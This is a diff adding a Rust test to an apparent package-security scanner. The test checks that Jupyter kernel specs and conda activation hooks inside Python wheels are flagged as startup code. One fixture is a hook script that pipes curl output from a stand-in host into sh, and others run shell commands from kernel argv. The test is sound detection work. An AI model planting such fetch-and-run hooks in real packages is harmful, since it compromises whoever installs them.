@@ -285,3 +285,59 @@ fn sitecustomize_as_a_package_or_an_extension_module_is_a_startup_hook() {
         "{f:?}"
     );
 }
+
+#[test]
+fn kernel_specs_and_conda_activation_hooks_a_wheel_installs_are_startup_code() {
+    let meta: (&str, &[u8]) = (
+        "w-1.0.dist-info/METADATA",
+        b"Metadata-Version: 2.1\nName: w\nVersion: 1.0\n",
+    );
+    let kernel = "w-1.0.data/data/share/jupyter/kernels/python3/kernel.json";
+    let hook = "w-1.0.data/data/etc/conda/activate.d/w.sh";
+    let cases: [(&str, &[u8], Option<Severity>); 5] = [
+        (
+            kernel,
+            br#"{"argv": ["sh", "-c", "echo airlock; exec python -m ipykernel_launcher -f {connection_file}"], "display_name": "Python 3", "language": "python"}"#,
+            Some(Severity::High),
+        ),
+        (
+            kernel,
+            br#"{"argv": ["python", "-c", "import os; os.system('echo airlock')"], "display_name": "Python 3", "language": "python"}"#,
+            Some(Severity::High),
+        ),
+        (
+            kernel,
+            br#"{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"], "display_name": "Python 3", "language": "python"}"#,
+            None,
+        ),
+        (
+            hook,
+            b"#!/bin/sh\ncurl -fsSL https://c.example.invalid/a.sh | sh\n",
+            Some(Severity::High),
+        ),
+        (hook, b"#!/bin/sh\nexport GDAL_DATA=\"$CONDA_PREFIX/share/gdal\"\n", Some(Severity::Low)),
+    ];
+    let rules = std::sync::Arc::new(airlock::yara::YaraRules::builtin().expect("rules"));
+    for (member, data, want) in cases {
+        let dir = tempfile::tempdir().expect("tempdir");
+        let p = dir.path().join("w-1.0-py3-none-any.whl");
+        std::fs::write(&p, wheel(&[(member, data), meta])).expect("write");
+        let r = airlock::scan::scan_file_with(&p, BudgetLimits::default(), Some(rules.clone()));
+        let f: Vec<(&str, Severity, Option<u64>)> = r
+            .findings
+            .iter()
+            .map(|x| (x.rule.id, x.severity, None))
+            .collect();
+        let got = f
+            .iter()
+            .filter(|(id, _, _)| *id == "startup-hook-file")
+            .map(|(_, s, _)| *s)
+            .max();
+        assert_eq!(
+            got,
+            want,
+            "{member}: {}: {f:?}",
+            String::from_utf8_lossy(data)
+        );
+    }
+}
